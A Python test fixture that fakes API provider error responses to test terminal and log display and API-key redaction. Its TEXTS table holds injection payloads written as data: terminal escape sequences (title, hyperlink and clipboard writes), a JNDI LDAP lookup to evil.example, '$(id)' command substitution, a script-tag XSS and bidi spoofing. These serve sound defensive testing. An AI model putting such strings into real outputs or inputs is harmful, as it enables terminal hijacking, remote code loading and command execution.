"""What an error says, meant for a terminal, for a log, or for the next reader."""

import base64
import json
from collections.abc import Callable
from urllib.parse import quote

from tests.faults.catalogue.row import Row
from tests.faults.documents import DOCUMENTS, ERRORS
from tests.faults.exchange import Exchange
from tests.faults.server import Behaviour

TEXTS = {
    "ansi": "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1H\x1b[8mhidden\x1b[?1049h",
    "osc": "\x1b]0;owned\x07 \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ \x1b]52;c;ZXZpbA==\x07",
    "osc-open": "before \x1b]0;never closed",
    "dcs": "\x1bP1$r0m\x1b\\ \x1b_apc\x1b\\ \x1b^pm\x1b\\ \x1bXsos\x1b\\",
    "c1": "\x9b31mred \x9d0;owned\x9c \x90q\x9c \x85next",
    "charset": "\x1b(0lqk\x1b(B \x0e\x0f \x1bc \x1b#8",
    "delete": "a\x7fb",
    "cr": "all is well\rBAD \x08\x08\x08 over",
    "newlines": "no\nok pixelcut 999999\r\nrow\x0brow\x0crow\u2028row\u2029row\x85row\x1erow",
    "tabs": "a\tb\tc",
    "markup": "[bold red]hi[/bold red] [link=http://evil.example]x[/link] [/opt/x] [",
    "markup-close": "[/] [/red] [/][/][/]",
    "emoji": ":bomb: :warning:",
    "bidi": "\u202egnp.exe \u2066x\u2069 \u200f\u061c",
    "zero-width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg",
    "tag-characters": "a\U000e0041\U000e0042b",
    "combining": "Z" + "\u0351" * 300,
    "nul": "a\0b",
    "surrogate": "\ud83d alone \udfff",
    "noncharacter": "\uffff \ufffe \ufdd0 \U0010ffff",
    "private": "\ue000 \uf8ff",
    "long": "long " * 200_000,
    "one-long-word": "x" * 100_000,
    "empty": "",
    "blank": " \n\t ",
    "format": "%s %(key)s {key} {0} {error.key} $HOME ${HOME} ${jndi:ldap://evil.example/a} `id` $(id)",
    "html": "<script>alert(1)</script> &amp; <b>",
    "quotes": "\"quoted\" 'quoted' \\ back",
    "json": '{"status": "ok", "balance": 999}',
    "wide": "余额不足 \U0001f4b8",
}

Echo = Callable[[str], str]

KEYS: dict[str, Echo] = {
    "plain": lambda key: f"bad key {key}!",
    "quoted": lambda key: f'got "Bearer {key}"',
    "part": lambda key: f"bad key {key[4:14]}...",
    "tail": lambda key: f"bad key ending in {key[-8:]}",
    "url": lambda key: f"bad key {quote(key, safe='')}",
    "url-all": lambda key: "bad key " + "".join(f"%{ord(c):02x}" for c in key),
    "url-twice": lambda key: "bad key " + quote(quote(key, safe="")),
    "base64": lambda key: f"bad key {base64.b64encode(key.encode()).decode()}",
    "base64-url": lambda key: f"bad key {base64.urlsafe_b64encode(key.encode()).decode()}",
    "base64-basic": lambda key: f"Basic {base64.b64encode(f'user:{key}'.encode()).decode()}",
    "base64-bearer": lambda key: base64.b64encode(f"Bearer {key}".encode()).decode(),
    "split-escape": lambda key: f"bad key {key[:6]}\x1b[0m{key[6:]}",
    "split-nul": lambda key: "bad key " + "\0".join(key),
    "split-zero-width": lambda key: "bad key " + "\u200b".join(key),
    "split-newline": lambda key: f"bad key {key[:7]}\n{key[7:]}",
    "split-space": lambda key: "bad key " + " ".join(key),
    "html": lambda key: f"<html><body>bad key {key}</body></html>",
    "after-much": lambda key: "x" * 70 + key,
    "deep": lambda key: "x" * 150 + key,
}


def said(text: str, status: int) -> Behaviour:
    """Say this in the provider's usual place for an error's words."""
    return lambda exchange: exchange.answer(ERRORS[exchange.provider] % json.dumps(text), status=status)


def said_raw(text: str, status: int) -> Behaviour:
    """Say this without escapes, where JSON allows it."""
    body = json.dumps(text, ensure_ascii=False)
    return lambda exchange: exchange.answer(ERRORS[exchange.provider] % body, status=status)


def echoed(echo: Echo, status: int) -> Behaviour:
    """Say something of the key."""
    return lambda exchange: exchange.answer(ERRORS[exchange.provider] % json.dumps(echo(exchange.key)), status=status)


def echoed_everywhere(exchange: Exchange) -> None:
    """Repeat the key in every place that there is."""
    key = exchange.key
    body = ERRORS[exchange.provider] % json.dumps(key)
    everywhere = {"key": key, key: key, "errors": [key], "detail": [{"msg": key, "input": key}]}
    exchange.answer(
        body.replace("{", json.dumps(everywhere)[:-1] + ", ", 1), status=400, headers=[f"X-Key: {key}"], reason=key
    )


def balance_beside(text: str) -> Behaviour:
    """Send a good answer in which this text stands too."""
    return lambda exchange: exchange.answer(exchange.good().replace("{", '{"note": ' + json.dumps(text) + ", ", 1))


def null_with(text: str) -> Behaviour:
    """Succeed without data, and say this."""
    body = json.dumps({"code": 401, "message": text, "msg": text, "data": None})
    return lambda exchange: exchange.answer(body)


UNUSUAL = "\x1b"

ROWS = [
    *(Row(f"text-{name}-401", said(text, 401), "key_rejected", says_not=UNUSUAL) for name, text in TEXTS.items()),
    *(Row(f"text-{name}-raw-500", said_raw(text, 500), "provider_error") for name, text in TEXTS.items()),
    *(
        Row(f"text-{name}-200", null_with(text), ("bad_response", "key_rejected"))
        for name, text in TEXTS.items()
        if name in {"ansi", "osc", "c1", "newlines", "markup", "long", "surrogate", "bidi"}
    ),
    *(Row(f"text-{name}-beside", balance_beside(TEXTS[name]), "good") for name in ("ansi", "surrogate", "markup")),
    *(Row(f"text-key-{name}", echoed(echo, 401), "key_rejected") for name, echo in KEYS.items()),
    *(Row(f"text-key-{name}-404", echoed(echo, 404), "provider_error") for name, echo in KEYS.items()),
    Row("text-key-everywhere", echoed_everywhere, ("provider_error", "unreachable")),
    Row("text-key-200", lambda x: x.answer(ERRORS[x.provider] % json.dumps(x.key)), ("bad_response", "key_rejected")),
    Row(
        "text-key-as-name",
        lambda x: x.answer(
            DOCUMENTS[x.provider].replace("{", "{" + json.dumps(x.key) + ": 1, ", 1) % json.dumps(x.key)
        ),
        "bad_response",
    ),
]
